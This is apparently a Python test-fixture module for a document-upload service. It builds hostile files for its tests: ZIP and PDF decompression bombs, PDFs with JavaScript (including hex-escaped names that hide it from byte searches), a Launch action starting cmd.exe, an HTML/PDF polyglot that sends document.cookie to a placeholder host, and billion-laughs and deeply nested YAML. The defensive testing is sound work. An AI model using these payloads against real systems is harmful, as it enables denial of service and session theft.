"""Hostile files, made small and fast: what an attacker uploads to take the server down or to
pass one kind of file for another. Shared by the tests and bench/upload_bomb.py."""

import functools
import io
import struct
import zlib

MiB = 1024 * 1024
GiB = 1024 * MiB


@functools.cache
def _zeros_deflated(mib: int) -> tuple[bytes, int]:
    """Raw deflate data of `mib` MiB of zero bytes, and their CRC-32, made in about a second
    for 2 GiB: one MiB compressed with a full flush gives the same 1,037 bytes each time,
    so the stream is that piece repeated (about 1:1000, as far as deflate goes)."""
    chunk = bytes(MiB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mib):
        crc = zlib.crc32(chunk, crc)
    return piece * mib + compressor.flush(zlib.Z_FINISH), crc


def zip_package(
    entries: dict[str, bytes | int], *, declared: dict[str, int] | None = None
) -> bytes:
    """A ZIP package written by hand, so that sizes can be anything: an entry given as an int
    is that many MiB of zeros, deflated; `declared` overrides an entry's declared size (a
    central directory that lies about what the entry unpacks to)."""
    declared = declared or {}
    out = io.BytesIO()
    central = []
    for name, content in entries.items():
        if isinstance(content, int):
            data, crc = _zeros_deflated(content)
            size, method = content * MiB, 8
        else:
            data, crc, size, method = content, zlib.crc32(content), len(content), 0
        size = declared.get(name, size)
        raw_name = name.encode()
        offset = out.tell()
        # version, flags, method, time, date (1980-01-01), CRC, packed and unpacked size
        common = (0, method, 0, 0x21, crc, len(data), size, len(raw_name))
        out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *common, 0) + raw_name + data)
        # ...and in the directory: made by, extra, comment, disk, attributes, the offset
        central.append(
            struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *common, 0, 0, 0, 0, 0, offset)
            + raw_name
        )
    start = out.tell()
    out.write(b"".join(central))
    out.write(
        struct.pack(
            "<4s4H2LH",
            b"PK\x05\x06",
            0,
            0,
            len(central),
            len(central),
            out.tell() - start,
            start,
            0,
        )
    )
    return out.getvalue()


ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"


def odt_bomb(mib: int = 2048) -> bytes:
    """The probe's 2 MB '.odt': its `mimetype` entry unpacks to 2 GiB of zeros."""
    return zip_package({"mimetype": mib, "content.xml": b"<office:document-content/>"})


def docx_bomb(mib: int = 2048) -> bytes:
    """A DOCX whose word/document.xml unpacks to `mib` MiB."""
    return zip_package({"[Content_Types].xml": CONTENT_TYPES_DOCX, "word/document.xml": mib})


CONTENT_TYPES_DOCX = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


# --- PDFs -----------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf_document(*bodies: bytes) -> bytes:
    """A one-page PDF of these numbered objects (1 the catalogue, 2 the pages, 3 the page, by
    default the three above), written by hand with a correct cross-reference table."""
    bodies = bodies or (CATALOG, PAGES, PAGE)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(bodies) + 1,
        xref_at,
    )
    return bytes(out)


def pdf_with_javascript() -> bytes:
    """A PDF that runs JavaScript when opened: a script in the /JavaScript name tree."""
    return pdf_document(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(init) 4 0 R] >> >> >>",
        PAGES,
        PAGE,
        b"<< /S /JavaScript /JS (app.alert\\('Kinerja'\\)) >>",
    )


def pdf_with_hidden_javascript() -> bytes:
    """JavaScript as the open action, its names written in hex escapes (/J#61vaScript, /J#53)
    so that a search of the bytes for /JavaScript or /JS finds nothing."""
    return pdf_document(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript "
        b"/J#53 (app.alert\\(1\\)) >> >>",
        PAGES,
        PAGE,
    )


def pdf_with_launch() -> bytes:
    """A page that starts a program when it is opened (/AA /O with a /Launch action)."""
    return pdf_document(
        CATALOG,
        PAGES,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
        b"/AA << /O << /S /Launch /F (cmd.exe) >> >> >>",
    )


def pdf_opening_at_its_first_page() -> bytes:
    """A harmless open action (show page 1 whole), as Word and LibreOffice write."""
    return pdf_document(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGES, PAGE)


def html_with_pdf_header() -> bytes:
    """The probe's polyglot: an HTML page with a PDF header in a comment."""
    return (
        b"<!DOCTYPE html><html><!-- %PDF-1.7 --><body>"
        b"<script>document.location='https://example.invalid/'+document.cookie</script>"
        b"</body></html>\n"
    )


def _zlib_zeros(prefix: bytes, mib: int) -> bytes:
    """FlateDecode data of `prefix` then `mib` MiB of zeros, made as fast as _zeros_deflated."""
    chunk = bytes(MiB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler = zlib.adler32(prefix)
    for _ in range(mib):
        adler = zlib.adler32(chunk, adler)
    raw = data + piece * mib + compressor.flush(zlib.Z_FINISH)
    return b"\x78\xda" + raw + struct.pack(">L", adler)


def pdf_object_stream_bomb(mib: int = 64) -> bytes:
    """A PDF 1.5 whose object stream (which any reader must inflate to find object 5) unpacks
    to `mib` MiB; its cross-reference is a stream, as object streams require."""
    inside = b"<< /Kind /Harmless >>"
    packed = _zlib_zeros(b"5 0 " + inside + b"\n", mib)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in ((1, CATALOG), (2, PAGES), (3, PAGE)):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[4] = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\n" % len(
        packed
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BLH", 0, 0, 65535)]
    rows += [struct.pack(">BLH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BLH", 2, 4, 0), struct.pack(">BLH", 1, offsets[6], 0)]
    table = b"".join(rows)
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(
        table
    )
    out += table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


# --- YAML -----------------------------------------------------------------------------------

# The probe's 371 bytes: nine levels of nine aliases, a billion "lol" when expanded.
BILLION_LAUGHS = b"""number: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
unit: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
unit_header: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
name: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
made_on: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
effective_on: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
lanes: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
steps: [*g,*g,*g,*g,*g,*g,*g,*g,*g]
"""


def deep_yaml(levels: int = 5000) -> bytes:
    """A list nested `levels` deep: [[[[...]]]] (a RecursionError for a recursive reader)."""
    return b"steps: " + b"[" * levels + b"]" * levels + b"\n"


# --- what the page, the API and the service must refuse alike -------------------------------

ZIP_BOMB_MESSAGE = (
    "Part %s of the file is packed 1011 times smaller than it unpacks to; office documents are "
    "never packed so tightly (a “ZIP bomb” is), so the file is refused."
)
ACTIVE_MESSAGE = (
    "The PDF contains %s, which could run on the computer of whoever opens it; save or print "
    "it again as a plain PDF."
)
# (the name it is uploaded with, how to make it, what the person is told)
HOSTILE_UPLOADS = [
    ("Draft PK.odt", odt_bomb, ZIP_BOMB_MESSAGE % "mimetype"),
    ("Draft PK.docx", docx_bomb, ZIP_BOMB_MESSAGE % "word/document.xml"),
    (
        "Draft PK.pdf",
        html_with_pdf_header,
        "The file does not start as a PDF does: its PDF header comes later, as in a file of "
        "another kind disguised as a PDF. Save or print it again as a PDF.",
    ),
    ("Draft PK.pdf", pdf_with_javascript, ACTIVE_MESSAGE % "JavaScript"),
    ("Draft PK.pdf", pdf_with_launch, ACTIVE_MESSAGE % "a Launch action"),
]
HOSTILE_IDS = ["odt-bomb", "docx-bomb", "html-polyglot", "pdf-javascript", "pdf-launch"]
